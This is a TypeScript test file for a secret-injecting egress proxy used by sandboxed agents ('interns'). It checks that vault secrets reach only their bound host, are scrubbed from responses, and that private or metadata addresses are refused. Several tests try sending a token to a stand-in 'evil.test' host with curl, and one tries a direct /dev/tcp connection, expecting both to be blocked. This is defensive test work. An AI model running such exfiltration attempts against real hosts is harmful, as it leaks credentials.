import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import { type Db } from '@roster/shared'
import { LocalVault, SecretWrite, storeSecret } from '@roster/shared/vault'
import { lacking, useTestTenant } from '@roster/testing'
import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Egress, scrubSecrets } from './egress.js'
// The runtime host's side of a command's network: its proxy hands what carries a placeholder to this egress.
import { EgressProxies } from '../../../runtime/src/egress-proxy.js'
import { runSandboxed } from '../../../runtime/src/sandbox.js'

// The egress against a real vault and a real HTTP server on the loopback, reached under test
// hostnames mapped to it (nothing leaves the machine): a secret travels only to the host it is
// bound to, and never comes back into what the intern sees.
const env = useTestTenant()
const vault = new LocalVault({ masterKey: Buffer.alloc(32, 7), lockTimeoutMs: 1000 })
let server: Server
let port = 0
const seen: { host: string; authorization?: string; body: string }[] = []
let egress: Egress
let internId = ''
let borrowerId = ''

async function makeIntern(db: Db, workspaceId: string, name: string, attachedVaultId?: string) {
  const v = await vault.newVault(db)
  await db.vault.create({
    data: { id: v.id, workspaceId, masterKeyId: v.masterKeyId, sealedDataKey: new Uint8Array(v.sealedDataKey) },
  })
  const intern = await db.intern.create({
    data: { workspaceId, name, status: 'running', vaultId: v.id, attachedVaultId },
  })
  return { id: intern.id, vaultId: v.id }
}
const store = (vaultId: string, name: string, value: string, hosts: string[]) =>
  storeSecret(env.t.db, vault, vaultId, name, SecretWrite.parse({ value, hosts }))

beforeAll(async () => {
  server = createServer((req: IncomingMessage, res) => {
    let body = ''
    req.on('data', (c) => (body += c))
    req.on('end', () => {
      seen.push({ host: String(req.headers.host), authorization: req.headers.authorization, body })
      // An API that echoes what it was sent: the echo must not bring a value back to the intern.
      res.writeHead(200, { 'content-type': 'application/json', 'x-echo': String(req.headers.authorization ?? '') })
      res.end(JSON.stringify({ you_sent: req.headers.authorization ?? null, body }))
    })
  })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  port = (server.address() as { port: number }).port
  const db = env.t.db
  const workspaceId = env.tenant.workspaceId
  const lender = await makeIntern(db, workspaceId, 'lender')
  const mine = await makeIntern(db, workspaceId, 'worker')
  const borrower = await makeIntern(db, workspaceId, 'borrower', lender.vaultId)
  internId = mine.id
  borrowerId = borrower.id
  const pool = (await vault.workspaceVault(db, workspaceId, true))!
  await store(pool, 'gh_token', 'ghp_WORKSPACE', ['api.github.test'])
  await store(pool, 'shared_name', 'from-pool', ['api.github.test'])
  await store(mine.vaultId, 'shared_name', 'from-intern', ['elsewhere.test'])
  await store(lender.vaultId, 'lent_key', 'sk_LENT', ['api.github.test'])
  egress = new Egress({
    db,
    vault,
    allowPrivateNetworks: true,
    hosts: { 'api.github.test': '127.0.0.1', 'evil.test': '127.0.0.1', 'elsewhere.test': '127.0.0.1' },
    timeoutMs: 5_000,
    maxBytes: 64 * 1024,
  })
})
afterAll(async () => {
  server?.close()
  await egress?.close()
})

const url = (host: string, path = '/') => `http://${host}:${port}${path}`

describe('the egress', () => {
  it('puts a secret in on the way to its bound host, and takes it out of what comes back', async () => {
    seen.length = 0
    const res = (await egress.send(internId, {
      url: url('api.github.test', '/user'),
      headers: { authorization: 'Bearer {{secret:gh_token}}' },
    })) as any
    expect(seen).toEqual([{ host: `api.github.test:${port}`, authorization: 'Bearer ghp_WORKSPACE', body: '' }])
    expect(res.status).toBe(200)
    expect(JSON.parse(res.body)).toEqual({ you_sent: 'Bearer {{secret:gh_token}}', body: '' })
    expect(res.headers['x-echo']).toBe('Bearer {{secret:gh_token}}')
    expect(JSON.stringify(res)).not.toContain('ghp_WORKSPACE')
  })

  it('never sends a secret to another host, and then sends nothing at all', async () => {
    seen.length = 0
    const res = await egress.send(internId, {
      url: url('evil.test'),
      method: 'POST',
      headers: { authorization: 'Bearer {{secret:gh_token}}' },
      body: 'x={{secret:gh_token}}',
    })
    expect(res).toEqual({ error: expect.stringMatching(/^not sent: gh_token is not a secret bound to evil\.test/) })
    expect(seen).toEqual([])
    const unknown = await egress.send(internId, {
      url: url('api.github.test'),
      headers: { 'x-key': '{{secret:no_such}}' },
    })
    expect(unknown).toEqual({ error: expect.stringMatching(/no_such is not a secret bound/) })
    const inUrl = await egress.send(internId, { url: url('api.github.test', '/?k={{secret:gh_token}}') })
    expect(inUrl).toEqual({ error: expect.stringMatching(/never in the URL/) })
    expect(seen).toEqual([])
  })

  it("resolves a name as the intern sees it: its own secret hides the workspace's, bound or not", async () => {
    seen.length = 0
    // The intern's own shared_name is bound to elsewhere.test only, so the pool's (bound to github) is not used.
    expect(
      await egress.send(internId, { url: url('api.github.test'), headers: { 'x-key': '{{secret:shared_name}}' } }),
    ).toEqual({ error: expect.stringMatching(/shared_name is not a secret bound/) })
    await egress.send(internId, { url: url('elsewhere.test'), method: 'POST', body: '{{secret:shared_name}}' })
    expect(seen.at(-1)!.body).toBe('from-intern')
    // A borrowed vault's secrets reach the borrower, not its neighbours.
    await egress.send(borrowerId, { url: url('api.github.test'), headers: { 'x-key': '{{secret:lent_key}}' } })
    expect(seen.at(-1)).toMatchObject({ host: `api.github.test:${port}` })
    expect(
      await egress.send(internId, { url: url('api.github.test'), headers: { 'x-key': '{{secret:lent_key}}' } }),
    ).toEqual({ error: expect.stringMatching(/lent_key is not a secret bound/) })
  })

  it('refuses private addresses unless allowed', async () => {
    const strict = new Egress({
      db: env.t.db,
      vault,
      allowPrivateNetworks: false,
      hosts: { 'api.github.test': '127.0.0.1' },
      timeoutMs: 2_000,
      maxBytes: 1024,
    })
    try {
      const res = await strict.send(internId, { url: url('api.github.test') })
      expect(res).toEqual({ error: expect.stringMatching(/private or loopback address/) })
      // An address written in the URL is refused as well (a connection to a literal asks no lookup).
      for (const literal of ['127.0.0.1', '[::1]', '10.1.2.3', '169.254.169.254']) {
        expect(await strict.send(internId, { url: `http://${literal}:${port}/` })).toEqual({
          error: expect.stringMatching(/private or loopback address/),
        })
      }
    } finally {
      await strict.close()
    }
  })

  it('scrubs every released value, the longest first', () => {
    const released = new Map([
      ['a', 'abc'],
      ['b', 'abcdef'],
    ])
    expect(scrubSecrets('abcdef and abc', released)).toBe('{{secret:b}} and {{secret:a}}')
  })
})

const noSandbox = await lacking(['bubblewrap', 'curl'], 'the egress tests of sandboxed shell commands')

describe.skipIf(noSandbox)("a shell command's network: its intern's egress proxy, and nothing else", () => {
  const hosts = { 'api.github.test': '127.0.0.1', 'evil.test': '127.0.0.1' }
  const workspace = mkdtempSync(join(tmpdir(), 'roster-proxy-ws-'))
  const proxies = (allowPrivateNetworks: boolean) =>
    new EgressProxies({
      dir: mkdtempSync(join(tmpdir(), 'roster-egress-')),
      allowPrivateNetworks,
      hosts,
      timeoutMs: 5_000,
      maxRequestBytes: 1024 * 1024,
      egress,
    })
  const sandboxed = async (p: EgressProxies, command: string) =>
    runSandboxed(command, {
      workspace,
      egressSocket: await p.socketFor(internId),
      timeoutMs: 20_000,
      maxOutputBytes: 64 * 1024,
    })

  it('puts a secret into plain HTTP only for its bound host and scrubs it from the answer; tunnels HTTPS untouched', async () => {
    const p = proxies(true)
    try {
      seen.length = 0
      const bound = await sandboxed(
        p,
        `curl -s -H 'authorization: Bearer {{secret:gh_token}}' ${url('api.github.test', '/user')}`,
      )
      expect(seen.at(-1)).toMatchObject({ host: `api.github.test:${port}`, authorization: 'Bearer ghp_WORKSPACE' })
      expect(JSON.parse(bound.stdout)).toEqual({ you_sent: 'Bearer {{secret:gh_token}}', body: '' })
      const other = await sandboxed(
        p,
        `curl -s -w ' %{http_code}' -H 'authorization: Bearer {{secret:gh_token}}' ${url('evil.test')}`,
      )
      expect(other.stdout).toMatch(/gh_token is not a secret bound to evil\.test.* 502$/s)
      expect(seen).toHaveLength(1)
      // A CONNECT tunnel (what HTTPS uses), here to a plain server: bytes pass, nothing is put in.
      const tunnelled = await sandboxed(
        p,
        `curl -s -p -H 'authorization: Bearer {{secret:gh_token}}' ${url('api.github.test')}`,
      )
      expect(JSON.parse(tunnelled.stdout).you_sent).toBe('Bearer {{secret:gh_token}}')
      expect(seen.at(-1)!.authorization).toBe('Bearer {{secret:gh_token}}')
      // The proxy is the only way out: a direct connection finds no network.
      const direct = await sandboxed(p, `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`)
      expect([direct.exitCode === 0, direct.stdout]).toEqual([false, ''])
    } finally {
      await p.closeAll()
    }
  })

  it("refuses private and loopback addresses (the host's own services) unless allowed, by name, literal or tunnel", async () => {
    const p = proxies(false)
    try {
      seen.length = 0
      const out = await sandboxed(
        p,
        `curl -s -o /dev/null -w '%{http_code} ' ${url('api.github.test')}; curl -s -o /dev/null -w '%{http_code} ' http://127.0.0.1:${port}/; curl -s -p -o /dev/null -w '%{http_connect}' http://127.0.0.1:${port}/`,
      )
      expect(out.stdout).toBe('502 403 403')
      expect(seen).toEqual([])
    } finally {
      await p.closeAll()
    }
  })
})
